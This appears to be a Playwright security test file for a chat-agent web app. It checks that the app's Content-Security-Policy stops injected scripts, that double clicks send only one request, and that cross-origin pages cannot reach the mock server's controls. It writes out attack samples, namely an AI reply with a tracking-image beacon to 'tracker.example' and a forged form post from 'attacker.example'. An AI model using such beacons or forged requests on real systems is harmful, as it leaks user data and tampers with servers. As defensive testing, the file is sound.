import type { Page } from '@playwright/test';
import { ACCOUNTS, MOCK_SERVER, expect, storageItem, test } from './fixtures';

// In Chromium, both modes: the build's Content-Security-Policy holds (and every journey
// runs under it: fixtures.ts fails a test on any violation), a double click sends one request,
// replies load no image, and the mock server's controls refuse a foreign page.

/** Counts the page's calls whose URL path ends with `suffix` and whose method is `method`. */
function countCalls(page: Page, method: string, suffix: string): () => number {
  let n = 0;
  page.on('request', (req) => {
    if (req.method() === method && new URL(req.url()).pathname.endsWith(suffix)) n += 1;
  });
  return () => n;
}

test('the build carries a Content-Security-Policy; an injected inline script does not run', async ({ page, mode, cspViolations }) => {
  await page.goto('/login');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("frame-src 'self' blob:");
  expect(policy).toContain("worker-src 'self' blob:");
  if (mode === 'mocks-off') expect(policy).toContain(`connect-src 'self' ${MOCK_SERVER}`);
  // The mock build still starts its service worker under the policy (the demo accounts are its).
  if (mode === 'worker') await expect(page.getByRole('heading', { name: 'Demo accounts' })).toBeVisible();

  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.head.appendChild(script);
    return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
  });
  expect(ran).toBe(false);
  await expect.poll(() => cspViolations.length).toBe(1);
  expect(cspViolations[0]).toMatch(/^script-src-elem refused inline/);
  cspViolations.length = 0;
});

test('a double click on LOG IN sends one login call', async ({ page }) => {
  const logins = countCalls(page, 'POST', '/auth/login');
  await page.goto('/login');
  await page.getByLabel('Email').fill(ACCOUNTS.agent);
  await page.getByLabel('Password', { exact: true }).fill('demo1234');
  await page.getByRole('button', { name: 'LOG IN' }).dblclick();
  await expect(page).toHaveURL(/\/home$/);
  expect(logins()).toBe(1);
});

test('a double click on New Chat starts one conversation', async ({ page, login }) => {
  await login(ACCOUNTS.agent);
  await page.goto('/agent');
  await page.getByRole('navigation', { name: 'Companies' }).getByRole('button', { name: 'Northstar Mutual' }).click();
  await expect.poll(() => storageItem(page, 'conversationId')).toBeTruthy();
  const first = await storageItem(page, 'conversationId');
  const starts = countCalls(page, 'POST', '/conversations');
  await page.getByRole('button', { name: 'New Chat' }).dblclick();
  await expect.poll(() => storageItem(page, 'conversationId')).not.toBe(first);
  await expect(page.getByRole('button', { name: 'New Chat' })).toBeEnabled();
  expect(starts()).toBe(1);
});

test('a reply shows an image as a link to it and loads nothing from its server', async ({ page, login, mode }) => {
  // page.route cannot see calls the in-browser worker answers, so this runs against the HTTP mock server.
  test.skip(mode === 'worker', 'needs real HTTP to substitute the reply');
  const beacons: string[] = [];
  await page.route('https://tracker.example/**', (route) => {
    beacons.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'image/png', body: '' });
  });
  await login(ACCOUNTS.agent);
  await page.goto('/agent');
  await page.getByRole('navigation', { name: 'Companies' }).getByRole('button', { name: 'Northstar Mutual' }).click();
  await expect.poll(() => storageItem(page, 'conversationId')).toBeTruthy();
  const reply = 'See the table: ![Rate table](https://tracker.example/pixel.png?reader=agent)';
  await page.route('**/conversations/*/messages', (route) =>
    route.request().method() === 'GET' ? route.fulfill({ json: [{ role: 'assistant', content: reply }] }) : route.continue(),
  );
  await page.reload();
  const messages = page.getByRole('list', { name: 'Messages' });
  await expect(messages.getByRole('link', { name: 'Rate table' })).toHaveAttribute(
    'href',
    'https://tracker.example/pixel.png?reader=agent',
  );
  await expect(messages.locator('img')).toHaveCount(0);
  expect(beacons).toEqual([]);
});

test('the mock server refuses its controls to a page of another origin', async ({ page, mode }) => {
  test.skip(mode === 'worker', 'the HTTP mock server is the mocks-off backend');
  // A change the attack would undo: a company renamed through the API.
  const login = await fetch(`${MOCK_SERVER}/api/auth/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ username: ACCOUNTS.admin, password: 'demo1234' }),
  });
  const { access_token: token } = (await login.json()) as { access_token: string };
  const renamed = await fetch(`${MOCK_SERVER}/api/companies/cmp_hv_northstar`, {
    method: 'PATCH',
    headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ company_display: 'Renamed before the attack' }),
  });
  expect(renamed.status).toBe(200);

  // Any web page: a form post and a no-cors fetch need no preflight; the custom header does.
  await page.route('https://attacker.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<form id="f" method="post" action="${MOCK_SERVER}/__mock/reset"></form>`,
    }),
  );
  await page.goto('https://attacker.example/');
  const results = await page.evaluate(async (server) => {
    const simple = await fetch(`${server}/__mock/fault`, { method: 'POST', mode: 'no-cors', body: '{"spec":"GET /companies=500"}' }).then(
      () => 'sent',
      () => 'blocked',
    );
    const withHeader = await fetch(`${server}/__mock/reset`, { method: 'POST', headers: { 'X-Mock-Control': '1' } }).then(
      () => 'sent',
      () => 'blocked',
    );
    return { simple, withHeader };
  }, MOCK_SERVER);
  expect(results.withHeader).toBe('blocked');
  await Promise.all([page.waitForEvent('load'), page.evaluate(() => (document.getElementById('f') as HTMLFormElement).submit())]);

  const companies = await fetch(`${MOCK_SERVER}/api/companies`, { headers: { Authorization: `Bearer ${token}` } });
  expect(companies.status).toBe(200);
  const names = ((await companies.json()) as { company_display: string }[]).map((c) => c.company_display);
  expect(names).toContain('Renamed before the attack');
});
